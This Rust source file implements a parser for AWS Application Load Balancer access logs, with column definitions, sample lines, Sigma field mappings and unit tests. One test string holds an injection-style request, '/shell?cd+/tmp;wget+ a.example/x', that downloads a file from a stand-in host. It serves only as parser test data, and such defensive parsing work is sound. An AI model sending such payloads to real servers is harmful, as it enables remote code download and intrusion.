//! AWS.ALB: Application Load Balancer access logs. One request a line,
//! space-separated, some fields double-quoted. AWS appends new fields at
//! the end of the line from time to time (and tells parsers to ignore what
//! they do not know), so the line is read by position: the fields we know
//! fill their columns, missing trailing fields stay null, extra ones are
//! ignored. The first field (the request type) is one of a short fixed
//! list and the second is an ISO 8601 time; both are checked before the
//! line is split, which is what tells an ALB line from an NLB, Classic ELB,
//! CloudFront or S3 access line cheaply.

use seclake_core::{SigmaDef, SigmaLogSource};
use std::borrow::Cow;

use seclake_core::{
    columns, LogTypeDef, ParseContext, ParseError, Parsed, RecordParser, Row, Signature, Value,
};

use crate::fields::{float, host_port, int, quoted, rfc3339, text, unescape, FieldBuf};

columns! {
    Type = "type", "string", required, [], "The type of request or connection.";
    Timestamp = "timestamp", "timestamp", required, [], "The time when the load balancer generated a response to the client (UTC). For WebSockets, this is the time when the connection is closed.";
    Elb = "elb", "string", required, [], "The resource ID of the load balancer. If you are parsing access log entries, note that resources IDs can contain forward slashes (/).";
    ClientIp = "clientIp", "string", required, [Ip], "The IP address of the requesting client.";
    ClientPort = "clientPort", "bigint", required, [], "The port of the requesting client.";
    TargetIp = "targetIp", "string", optional, [Ip], "The IP address of the target that processed this request.";
    TargetPort = "targetPort", "bigint", optional, [], "The port of the target that processed this request.";
    RequestProcessingTime = "requestProcessingTime", "double", required, [], "The total time elapsed (in seconds, with millisecond precision) from the time the load balancer received the request until the time it sent it to a target. This value is set to -1 if the load balancer can't dispatch the request to a target. This can happen if the target closes the connection before the idle timeout or if the client sends a malformed request. This value can also be set to -1 if the registered target does not respond before the idle timeout.";
    TargetProcessingTime = "targetProcessingTime", "double", required, [], "The total time elapsed (in seconds, with millisecond precision) from the time the load balancer sent the request to a target until the target started to send the response headers. This value is set to -1 if the load balancer can't dispatch the request to a target. This can happen if the target closes the connection before the idle timeout or if the client sends a malformed request. This value can also be set to -1 if the registered target does not respond before the idle timeout.";
    ResponseProcessingTime = "responseProcessingTime", "double", required, [], "The total time elapsed (in seconds, with millisecond precision) from the time the load balancer received the response header from the target until it started to send the response to the client. This includes both the queuing time at the load balancer and the connection acquisition time from the load balancer to the client. This value is set to -1 if the load balancer can't send the request to a target. This can happen if the target closes the connection before the idle timeout or if the client sends a malformed request.";
    ElbStatusCode = "elbStatusCode", "bigint", optional, [], "The status code of the response from the load balancer.";
    TargetStatusCode = "targetStatusCode", "bigint", optional, [], "The status code of the response from the target. This value is recorded only if a connection was established to the target and the target sent a response.";
    ReceivedBytes = "receivedBytes", "bigint", required, [], "The size of the request, in bytes, received from the client (requester). For HTTP requests, this includes the headers. For WebSockets, this is the total number of bytes received from the client on the connection.";
    SentBytes = "sentBytes", "bigint", required, [], "The size of the response, in bytes, sent to the client (requester). For HTTP requests, this includes the headers. For WebSockets, this is the total number of bytes sent to the client on the connection.";
    RequestHttpMethod = "requestHttpMethod", "string", optional, [], "The HTTP method parsed from the request.";
    RequestUrl = "requestUrl", "string", optional, [Url], "The HTTP URL parsed from the request.";
    RequestHttpVersion = "requestHttpVersion", "string", optional, [], "The HTTP version parsed from the request.";
    UserAgent = "userAgent", "string", optional, [], "A User-Agent string that identifies the client that originated the request. The string consists of one or more product identifiers, product[/version]. If the string is longer than 8 KB, it is truncated.";
    SslCipher = "sslCipher", "string", optional, [], "[HTTPS listener] The SSL cipher. This value is set to NULL if the listener is not an HTTPS listener.";
    SslProtocol = "sslProtocol", "string", optional, [], "[HTTPS listener] The TLS protocol version negotiated with the client; null when the listener is not an HTTPS listener.";
    TargetGroupArn = "targetGroupArn", "string", optional, [AwsArn], "The ARN of the target group that received the request.";
    TraceId = "traceId", "string", optional, [], "The contents of the X-Amzn-Trace-Id header of the request.";
    DomainName = "domainName", "string", optional, [Domain], "[HTTPS listener] The SNI domain the client sent during the TLS handshake; null when the client does not support SNI, the domain does not match a certificate, or the listener is not HTTPS.";
    ChosenCertArn = "chosenCertArn", "string", optional, [AwsArn], "[HTTPS listener] The ARN of the certificate presented to the client; `session-reused` when the TLS session was resumed; null when the listener is not HTTPS.";
    MatchedRulePriority = "matchedRulePriority", "bigint", optional, [], "The priority of the listener rule that matched the request (0 for the default rule); null when no rule matched.";
    RequestCreationTime = "requestCreationTime", "timestamp", optional, [], "The time when the load balancer received the request from the client (UTC).";
    ActionsExecuted = "actionsExecuted", "[string]", optional, [], "The actions taken when processing the request, in order (for example waf, authenticate, forward, redirect, fixed-response).";
    RedirectUrl = "redirectUrl", "string", optional, [Url], "The target URL from the Location header of the response when a redirect action was taken.";
    ErrorReason = "errorReason", "string", optional, [], "The error reason code when the request failed (for example LambdaInvalidResponse or AuthInvalidIdToken).";
    TargetPortList = "targetPortList", "[string]", optional, [], "The IP address and port (ip:port) of each target that processed the request.";
    TargetStatusCodeList = "targetStatusCodeList", "[string]", optional, [], "The status code of each target response, in the same order as targetPortList.";
    Classification = "classification", "string", optional, [], "The desync mitigation classification of the request: Acceptable, Ambiguous or Severe; null when the request complies with RFC 7230.";
    ClassificationReason = "classificationReason", "string", optional, [], "The reason code for the desync mitigation classification (for example SpaceInUri); null when the request complies with RFC 7230.";
    ConnTraceId = "connTraceId", "string", optional, [], "The connection traceability ID, which links the request to the load balancer's connection log entry.";
    TransformedHost = "transformedHost", "string", optional, [Host], "The Host header after a host header rewrite transform modified it; null when no transform applied.";
    TransformedUri = "transformedUri", "string", optional, [], "The request URI after a URL rewrite transform modified it; null when no transform applied.";
    RequestTransformStatus = "requestTransformStatus", "string", optional, [], "The status of the request rewrite transforms; null when no transform applied.";
}

/// The request types AWS documents for the first field.
const TYPES: &[&str] = &["http", "https", "h2", "grpcs", "ws", "wss"];

/// The fields every line has: through the quoted request line.
const MIN_FIELDS: usize = 13;

pub const DEF: LogTypeDef = LogTypeDef {
    name: "AWS.ALB",
    description: "Application Load Balancer access logs: Layer 7 records of the requests an application load balancer served.",
    reference: "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/load-balancer-access-logs.html",
    columns: COLUMNS,
    signature: Signature::Any,
    event_time: Some("timestamp"),
    examples: &[
        r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90"#,
        r#"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90"#,
        r#"h2 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.1.252:48160 10.0.0.66:9000 0.000 0.002 0.000 200 200 5 257 "GET https://10.0.2.105:773/ HTTP/2.0" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337327-72bd00b0343d75b906739c42" "-" "-" 1 2018-07-02T22:22:48.364000Z "redirect" "https://example.com:80/" "-" "10.0.0.66:9000" "200" "-" "-" TID_1234abcd5678ef90"#,
        r#"http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - -1 -1 -1 400 - 0 0 "- - - " "-" - - - "-" "-" "-" - 2018-11-30T22:22:48.364000Z "-" "-" "-" "-" "-" "-" "-" TID_1234abcd5678ef90"#,
    ],
    new_parser: || Box::new(AlbParser::default()),
    sigma: SIGMA,
};

/// Sigma: the type answers `category: webserver` rules, whose fields are
/// named by Sigma's web server taxonomy (W3C extended log fields), and
/// `category: proxy` rules (the client's requests as a reverse proxy sees
/// them), with the proxy taxonomy's names.
/// The request URL is logged whole (scheme, host, path and query), so the
/// URI fields all read it: `contains` and keyword tests work as written.
const SIGMA: SigmaDef = SigmaDef {
    logsources: &[
        SigmaLogSource::category("webserver"),
        SigmaLogSource::category("proxy"),
        SigmaLogSource::service("aws", "alb"),
    ],
    fields: &[
        ("c-ip", "clientIp"),
        ("cs-method", "requestHttpMethod"),
        ("cs-uri", "requestUrl"),
        ("cs-uri-stem", "requestUrl"),
        ("cs-uri-query", "requestUrl"),
        ("cs-version", "requestHttpVersion"),
        ("cs-user-agent", "userAgent"),
        ("c-useragent", "userAgent"),
        ("cs-host", "domainName"),
        ("sc-status", "elbStatusCode"),
        ("sc-bytes", "sentBytes"),
        ("cs-bytes", "receivedBytes"),
        ("s-ip", "targetIp"),
        ("s-port", "targetPort"),
        // Sigma's proxy taxonomy.
        ("c-uri", "requestUrl"),
        ("c-uri-stem", "requestUrl"),
        ("c-uri-query", "requestUrl"),
        ("src_ip", "clientIp"),
        ("dst_ip", "targetIp"),
    ],
    json_columns: &[],
    keyword_fields: &["requestUrl", "userAgent"],
    dns_names: &[],
};

#[derive(Default)]
struct AlbParser {
    /// The split buffer, kept between records (empty when not in use).
    fields: FieldBuf,
}

/// Cheap checks on the first two fields, before any splitting: the type is
/// one of [`TYPES`] and the second field starts like `yyyy-mm-dd`.
fn looks_like_alb(line: &str) -> Result<(), ParseError> {
    let Some((ty, rest)) = line.split_once(' ') else {
        return Err(ParseError::mismatch(
            "not an ALB access log line: no fields",
        ));
    };
    if !TYPES.contains(&ty) {
        return Err(ParseError::mismatch(
            "not an ALB access log line: the first field is not an ALB request type",
        ));
    }
    let b = rest.as_bytes();
    if b.len() < 11 || !b[..4].iter().all(u8::is_ascii_digit) || b[4] != b'-' || b[7] != b'-' {
        return Err(ParseError::mismatch(
            "not an ALB access log line: the second field is not a date-time",
        ));
    }
    Ok(())
}

impl RecordParser for AlbParser {
    fn parse<'a>(
        &mut self,
        line: &'a str,
        _ctx: &ParseContext,
        row: &mut Row<'a>,
    ) -> Result<Parsed, ParseError> {
        looks_like_alb(line)?;
        self.fields
            .with_fields(line, |f| fill(f, row))
            .map(|()| Parsed::Row)
    }
}

fn fill<'a>(f: &[&'a str], row: &mut Row<'a>) -> Result<(), ParseError> {
    if f.len() < MIN_FIELDS {
        return Err(
            ParseError::invalid("ALB access log line with too few fields").with_detail(format!(
                "{} fields, at least {MIN_FIELDS} expected",
                f.len()
            )),
        );
    }
    let get = |i: usize| f.get(i).copied().unwrap_or("-");

    row.set(C::Type, Value::str(f[0]));
    let ts = rfc3339("timestamp", f[1])?;
    row.set(C::Timestamp, ts);
    row.event_time = Some(ts);
    row.set(C::Elb, required("elb", f[2])?);

    let (client_ip, client_port) = host_port("clientIp", f[3])?;
    if client_ip.is_null() {
        return Err(ParseError::field(
            "clientIp",
            "required field is missing",
            f[3],
        ));
    }
    row.set(C::ClientIp, client_ip);
    row.set(C::ClientPort, client_port);
    let (target_ip, target_port) = host_port("targetIp", f[4])?;
    row.set(C::TargetIp, target_ip);
    row.set(C::TargetPort, target_port);

    row.set(
        C::RequestProcessingTime,
        required_value("requestProcessingTime", f[5], float)?,
    );
    row.set(
        C::TargetProcessingTime,
        required_value("targetProcessingTime", f[6], float)?,
    );
    row.set(
        C::ResponseProcessingTime,
        required_value("responseProcessingTime", f[7], float)?,
    );
    row.set(C::ElbStatusCode, int("elbStatusCode", f[8])?);
    row.set(C::TargetStatusCode, int("targetStatusCode", f[9])?);
    row.set(
        C::ReceivedBytes,
        required_value("receivedBytes", f[10], int)?,
    );
    row.set(C::SentBytes, required_value("sentBytes", f[11], int)?);

    let (method, url, version) = split_request(f[12]);
    row.set(C::RequestHttpMethod, text(method));
    row.set(
        C::RequestUrl,
        if url == "-" || url.is_empty() {
            Value::Null
        } else {
            Value::Str(unescape(url))
        },
    );
    row.set(C::RequestHttpVersion, text(version));

    row.set(C::UserAgent, quoted(get(13)));
    row.set(C::SslCipher, text(get(14)));
    row.set(C::SslProtocol, text(get(15)));
    row.set(C::TargetGroupArn, text(get(16)));
    row.set(C::TraceId, quoted(get(17)));
    row.set(C::DomainName, quoted(get(18)));
    row.set(C::ChosenCertArn, quoted(get(19)));
    row.set(C::MatchedRulePriority, int("matchedRulePriority", get(20))?);
    let created = get(21);
    if created != "-" && !created.is_empty() {
        row.set(
            C::RequestCreationTime,
            rfc3339("requestCreationTime", created)?,
        );
    }
    row.set(C::ActionsExecuted, list(get(22), ','));
    row.set(C::RedirectUrl, quoted(get(23)));
    row.set(C::ErrorReason, quoted(get(24)));
    let targets = get(25);
    row.set(C::TargetPortList, list(targets, ' '));
    if targets != "-" {
        for t in targets.split(' ').filter(|t| !t.is_empty() && *t != "-") {
            if let Ok((Value::Str(host), _)) = host_port("targetPortList", t) {
                row.indicators.ip(host);
            }
        }
    }
    row.set(C::TargetStatusCodeList, list(get(26), ' '));
    row.set(C::Classification, quoted(get(27)));
    row.set(C::ClassificationReason, quoted(get(28)));
    row.set(C::ConnTraceId, text(get(29)));
    row.set(C::TransformedHost, quoted(get(30)));
    row.set(C::TransformedUri, quoted(get(31)));
    row.set(C::RequestTransformStatus, quoted(get(32)));
    Ok(())
}

fn required<'a>(name: &str, s: &'a str) -> Result<Value<'a>, ParseError> {
    match text(s) {
        Value::Null => Err(ParseError::field(name, "required field is missing", s)),
        v => Ok(v),
    }
}

fn required_value<'a>(
    name: &str,
    s: &'a str,
    conv: fn(&str, &str) -> Result<Value<'a>, ParseError>,
) -> Result<Value<'a>, ParseError> {
    match conv(name, s)? {
        Value::Null => Err(ParseError::field(name, "required field is missing", s)),
        v => Ok(v),
    }
}

/// Splits `METHOD URL VERSION`. The URL may itself contain spaces (a
/// malformed request is logged as received), so the method ends at the
/// first space and the version is the last word only when it looks like
/// one (`HTTP/...` or `-`). A malformed request logged as `- - - ` gives
/// three `-`, which become nulls.
fn split_request(req: &str) -> (&str, &str, &str) {
    let req = req.trim_end_matches(' ');
    let Some((method, rest)) = req.split_once(' ') else {
        return ("-", req, "-");
    };
    match rest.rsplit_once(' ') {
        Some((url, version)) if version == "-" || version.starts_with("HTTP/") => {
            (method, url, version)
        }
        _ => (method, rest, "-"),
    }
}

/// A list field: null for `-`, else the non-empty items.
fn list(s: &str, sep: char) -> Value<'_> {
    if s == "-" || s.is_empty() {
        return Value::Null;
    }
    Value::List(
        s.split(sep)
            .filter(|t| !t.is_empty())
            .map(|t| Value::Str(Cow::Borrowed(t)))
            .collect(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use seclake_core::testing::parse;
    use seclake_core::Indicator;

    fn s(v: &str) -> Value<'_> {
        Value::str(v)
    }

    #[test]
    fn full_line_fills_every_column() {
        let row = parse(&DEF, DEF.examples[1]).unwrap();
        assert_eq!(row.get(C::Type), &s("https"));
        assert_eq!(
            row.event_time.unwrap().to_rfc3339(),
            "2018-07-02T22:23:00.186641Z"
        );
        assert_eq!(row.get(C::ClientIp), &s("192.168.131.39"));
        assert_eq!(row.get(C::ClientPort), &Value::Int(2817));
        assert_eq!(row.get(C::TargetPort), &Value::Int(80));
        assert_eq!(row.get(C::RequestProcessingTime), &Value::Float(0.086));
        assert_eq!(row.get(C::RequestHttpMethod), &s("GET"));
        assert_eq!(row.get(C::RequestUrl), &s("https://www.example.com:443/"));
        assert_eq!(row.get(C::RequestHttpVersion), &s("HTTP/1.1"));
        assert_eq!(row.get(C::SslProtocol), &s("TLSv1.2"));
        assert_eq!(row.get(C::DomainName), &s("www.example.com"));
        assert_eq!(row.get(C::MatchedRulePriority), &Value::Int(1));
        assert_eq!(
            row.get(C::ActionsExecuted),
            &Value::List(vec![s("authenticate"), s("forward")])
        );
        assert_eq!(
            row.get(C::TargetPortList),
            &Value::List(vec![s("10.0.0.1:80")])
        );
        assert_eq!(
            row.get(C::TargetStatusCodeList),
            &Value::List(vec![s("200")])
        );
        assert_eq!(row.get(C::RedirectUrl), &Value::Null);
        assert_eq!(row.get(C::ConnTraceId), &s("TID_1234abcd5678ef90"));
        assert_eq!(row.get(C::TransformedHost), &Value::Null);
        assert!(matches!(row.get(C::RequestCreationTime), Value::Time(_)));
    }

    #[test]
    fn malformed_request_gives_nulls() {
        let row = parse(&DEF, DEF.examples[3]).unwrap();
        assert_eq!(row.get(C::RequestHttpMethod), &Value::Null);
        assert_eq!(row.get(C::RequestUrl), &Value::Null);
        assert_eq!(row.get(C::RequestHttpVersion), &Value::Null);
        assert_eq!(row.get(C::TargetIp), &Value::Null);
        assert_eq!(row.get(C::TargetStatusCode), &Value::Null);
        assert_eq!(row.get(C::MatchedRulePriority), &Value::Null);
        assert_eq!(row.get(C::ActionsExecuted), &Value::Null);
        assert_eq!(
            split_request("- http://h.example.com:80- -"),
            ("-", "http://h.example.com:80-", "-")
        );
        assert_eq!(
            split_request("- http://h.example.com:80-/ "),
            ("-", "http://h.example.com:80-/", "-")
        );
        assert_eq!(
            split_request("GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1"),
            (
                "GET",
                "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x",
                "HTTP/1.1"
            )
        );
    }

    #[test]
    fn ipv6_clients_and_targets() {
        let line = r#"https 2021-03-16T20:20:00.135052Z app/awseb-AWSEB-1MVD8OW91UMOH/a32a5528b8fdaa6b 2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc:50599 fd6d:6bbc:c529:6::face:ed83:f46:80 0.001 0.052 0.000 200 200 589 2084 "POST https://test.domain.com:443/api HTTP/1.1" "User 1.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-1:755269215481:targetgroup/awseb/5a03cc723870f039 "Root=1-605112f0-31f367be4fd3da651daa4157" "some.domain.com" "-" 0 2021-03-16T20:20:00.081000Z "waf,forward" "-" "-" "fd6d:6bbc:c529:27ff:b::dead:ed84:80 [2001:db8::7]:8080" "200 503" "-" "-" TID_dc57cebed65b444ebc8177bb698fe166"#;
        let row = parse(&DEF, line).unwrap();
        assert_eq!(
            row.get(C::ClientIp),
            &s("2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc")
        );
        assert_eq!(row.get(C::ClientPort), &Value::Int(50599));
        assert_eq!(row.get(C::TargetIp), &s("fd6d:6bbc:c529:6::face:ed83:f46"));
        assert_eq!(
            row.get(C::TargetStatusCodeList),
            &Value::List(vec![s("200"), s("503")])
        );
        let ips: Vec<&str> = row.indicator_values(Indicator::IpAddress).collect();
        assert!(ips.contains(&"fd6d:6bbc:c529:27ff:b::dead:ed84"), "{ips:?}");
        assert!(ips.contains(&"2001:db8::7"), "{ips:?}");
        assert!(
            ips.contains(&"2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc"),
            "{ips:?}"
        );
        let domains: Vec<&str> = row.indicator_values(Indicator::DomainName).collect();
        assert_eq!(domains, vec!["some.domain.com", "test.domain.com"]);
        let arns: Vec<&str> = row.indicator_values(Indicator::AwsArn).collect();
        assert_eq!(arns.len(), 1);
    }

    #[test]
    fn quoted_user_agent_with_spaces_and_escaped_quotes() {
        let line = r#"http 2018-07-02T22:23:00.186641Z app/lb/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "Mozilla/5.0 (X11; Linux x86_64) \"quoted\" thing" - - - "-" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-""#;
        let row = parse(&DEF, line).unwrap();
        assert_eq!(
            row.get(C::UserAgent),
            &s(r#"Mozilla/5.0 (X11; Linux x86_64) "quoted" thing"#)
        );
        // Fields after error_reason are absent: null.
        assert_eq!(row.get(C::TargetPortList), &Value::Null);
        assert_eq!(row.get(C::ConnTraceId), &Value::Null);
    }

    #[test]
    fn extra_trailing_fields_are_tolerated() {
        let line = format!("{} \"new-field\" more 42", DEF.examples[0]);
        let row = parse(&DEF, &line).unwrap();
        assert_eq!(row.get(C::ConnTraceId), &s("TID_1234abcd5678ef90"));
        let line = r#"http 2018-07-02T22:23:00.186641Z app/lb/1 1.2.3.4:5 - 0.1 0.1 0.1 200 200 1 2 "GET http://x.example.com:80/ HTTP/1.1" "ua" - - - "-" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "-" "-" "-" "-" TID_1 "rewritten.example.com" "/new/path" "SUCCESS" "future""#;
        let row = parse(&DEF, line).unwrap();
        assert_eq!(row.get(C::TransformedHost), &s("rewritten.example.com"));
        assert_eq!(row.get(C::TransformedUri), &s("/new/path"));
        assert_eq!(row.get(C::RequestTransformStatus), &s("SUCCESS"));
    }

    #[test]
    fn bad_timestamp_and_fields_are_invalid() {
        let bad_time =
            DEF.examples[0].replace("2018-07-02T22:23:00.186641Z", "2018-13-02T22:23:00.186641Z");
        let err = parse(&DEF, &bad_time).unwrap_err();
        assert!(
            !err.is_mismatch() && err.to_string().contains("timestamp"),
            "{err}"
        );
        let bad_port = DEF.examples[0].replace("192.168.131.39:2817", "192.168.131.39:x");
        assert!(!parse(&DEF, &bad_port).unwrap_err().is_mismatch());
        let bad_bytes = DEF.examples[0].replace(" 34 366 ", " 34 many ");
        assert!(parse(&DEF, &bad_bytes)
            .unwrap_err()
            .to_string()
            .contains("sentBytes"));
        let short = "http 2018-07-02T22:23:00.186641Z app/lb/1 1.2.3.4:5 - 0 0 0 200 200";
        assert!(parse(&DEF, short)
            .unwrap_err()
            .to_string()
            .contains("at least"));
        let glued = DEF.examples[0].replace(r#""-" "-" 0 "#, r#""-" "-"0 "#);
        assert!(!parse(&DEF, &glued).unwrap_err().is_mismatch());
    }

    #[test]
    fn other_types_and_garbage_are_mismatches() {
        for line in [
            // bad type
            r#"ftp 2018-07-02T22:23:00.186641Z app/lb/1 1.2.3.4:5 - 0 0 0 200 200 34 366 "GET http://x/ HTTP/1.1" "ua""#,
            // NLB access log
            "tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19 - ECDHE-RSA-AES128-SHA tlsv12 - my-nlb.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30",
            // ALB connection log
            "2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 \"CN=amazondomains.com\" NotBefore=2023-09-21T22:43:21Z FEF257372D5C14D4 Success",
            // S3 server access log
            r#"79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be DOC-EXAMPLE-BUCKET1 [06/Feb/2019:00:00:38 +0000] 192.0.2.3 79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be 3E57427F3EXAMPLE REST.GET.VERSIONING - "GET /DOC-EXAMPLE-BUCKET1?versioning HTTP/1.1" 200 - 113 - 7 - "-" "S3Console/0.4" -"#,
            // VPC flow
            "2 123456789010 eni-1235b8ca123456789 172.31.16.139 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK",
            "http",
            "http not-a-time at all",
            "",
            "{\"eventVersion\":\"1.08\"}",
        ] {
            let err = parse(&DEF, line).unwrap_err();
            assert!(err.is_mismatch(), "{line}: {err}");
        }
    }
}
